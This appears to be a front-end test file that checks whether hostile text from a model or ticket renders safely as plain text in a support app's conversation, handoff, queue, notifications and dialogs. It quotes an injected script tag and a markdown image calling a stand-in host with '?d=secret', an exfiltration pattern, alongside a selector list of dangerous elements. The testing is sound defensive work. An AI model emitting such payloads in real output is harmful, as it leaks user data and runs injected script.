import { screen, waitFor, within } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import type { Step } from '@/api/types'
import { allHostile as hostile } from '@/testing/hostile'
import { assessment, handoff, session, step } from '@/testing/samples'
import { fakeServer, visit } from './visit'
import '@/app/session/SessionPage' // the chunk, before the clock of a test runs

/**
 * A session of Amira's, escalated by Jonas before, in which the model and the ticket say nothing
 * but hostile things.
 */
function hostileSession(state: 'waiting' | 'claimed') {
  const server = fakeServer('Amira')
  const [junior, senior] = server.world.people as [(typeof server.world.people)[0], (typeof server.world.people)[0]]
  const done: Partial<Step> = {
    state: 'done',
    outcome: 'no_change',
    result_text: hostile,
    completed_at: new Date(0).toISOString(),
  }
  const own = session(state === 'claimed' ? senior : junior, hostile, {
    started_by: { id: junior.id, name: junior.name },
    escalated: true,
    status: state === 'claimed' ? 'active' : 'escalated',
    steps: [
      step(1, 'message', hostile, { author: junior }),
      step(2, 'reply', hostile),
      step(3, 'action', hostile, done),
      step(4, 'finding', hostile, { author: junior }),
      step(5, 'system', hostile),
      step(6, 'question', hostile, {
        state: 'open',
        help: { how: hostile, choices: [{ label: hostile, outcome: null, means: hostile }] },
      }),
    ],
  })
  const claimed = {
    state: 'claimed' as const,
    claimed_by: { id: senior.id, name: senior.name },
    claimed_at: new Date().toISOString(),
  }
  const made = handoff(own, junior, hostile, {
    engineer_notes: hostile,
    assessment: assessment({
      source: 'model',
      reason_code: null,
      summary_prose: hostile,
      what_we_know: [{ text: hostile, step_ids: [own.steps[0]!.id] }],
      likely_cause: hostile,
      suggested_steps: [{ text: hostile }, { text: `Then ${hostile}` }], // the first stands open in the lane
    }),
    ...(state === 'claimed' ? claimed : {}),
  })
  own.open_handoff_id = made.id
  server.world.sessions.unshift(own)
  server.world.handoffs = [made]
  server.world.notifications = [
    {
      id: made.id,
      kind: 'handoff_created',
      title: hostile,
      body: hostile,
      link: '/escalations',
      created_at: made.created_at,
      read_at: null,
    },
  ]
  return { server, own }
}

/** Nothing was made of the words: no element of theirs, no address to go to or to load, no code that ran. */
function expectOnlyWords(at: HTMLElement) {
  expect(
    at.querySelectorAll('script, iframe, form[action], object, embed, style, link, tool_call, img, b, svg[onload]'),
  ).toHaveLength(0)
  expect([
    ...document.querySelectorAll(
      '[href*="203.0.113.9"], [src*="203.0.113.9"], [href^="javascript:"], [onerror], [onload]',
    ),
  ]).toEqual([])
  expect((window as { taken?: unknown }).taken).toBeUndefined()
}

/** Each place that shows them keeps their direction to itself. */
function expectIsolated(at: HTMLElement, least: number) {
  const places = [...at.querySelectorAll<HTMLElement>('*')].filter((one) =>
    [...one.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && node.textContent!.includes('never closed')),
  )
  expect(places.length).toBeGreaterThanOrEqual(least)
  const open = places.filter((one) => !one.closest('bdi, [dir="auto"], textarea'))
  expect(open.map((one) => `${one.tagName}.${one.className}`)).toEqual([])
}

afterEach(() => delete (window as { taken?: unknown }).taken)

describe('What a model or a ticket says', () => {
  it('is only words in the conversation, in the lane and in the chips', async () => {
    const { own } = hostileSession('claimed')
    visit(`/pilot/${own.id}`)
    const talk = await screen.findByRole('region', { name: 'Conversation' })
    const lane = await screen.findByRole('region', { name: 'Task lane' })
    const chips = await screen.findByRole('region', { name: 'Suggested steps' })
    for (const part of [talk, lane, chips]) {
      expect(part).toHaveTextContent('<script>window.taken = 2</script>')
      expectOnlyWords(part)
      expectIsolated(part, 1)
    }
  })

  it('is only words on the handoff screen', async () => {
    const { own } = hostileSession('waiting')
    visit(`/pilot/${own.id}?pickup=true`)
    for (const name of ['What we know', 'What was tried', 'Likely cause', 'Suggested next steps']) {
      const part = await screen.findByRole('region', { name })
      await waitFor(() => expect(part).toHaveTextContent('![logo](http://203.0.113.9/pixel.png?d=secret)'))
      expectOnlyWords(part)
      expectIsolated(part, 1)
    }
  })

  it('is only words in the queue and in the bell', async () => {
    hostileSession('waiting')
    const { user } = visit('/escalations')
    const queue = await screen.findByRole('region', { name: 'Escalation queue' })
    await waitFor(() => expect(queue).toHaveTextContent('window.taken = 2'))
    expectOnlyWords(queue)
    expectIsolated(queue, 1)
    await user.click(await screen.findByRole('button', { name: /^Notifications/ }))
    const list = await screen.findByRole('heading', { name: 'Notifications' })
    const bell = list.parentElement!.parentElement!
    await waitFor(() => expect(bell).toHaveTextContent('window.taken = 2'))
    expectOnlyWords(bell)
    expectIsolated(bell, 2)
  })

  it('is only words in the texts for the ticket and the client', async () => {
    const { own } = hostileSession('claimed')
    const { user } = visit(`/pilot/${own.id}`)
    await user.click(await screen.findByRole('button', { name: 'Conclude' }))
    const dialog = await screen.findByRole('dialog')
    await user.click(within(dialog).getByRole('button', { name: 'Client update' }))
    await waitFor(() => expect(dialog).toHaveTextContent('window.taken = 2'))
    expectOnlyWords(dialog)
    expectIsolated(dialog, 1)
  })
})
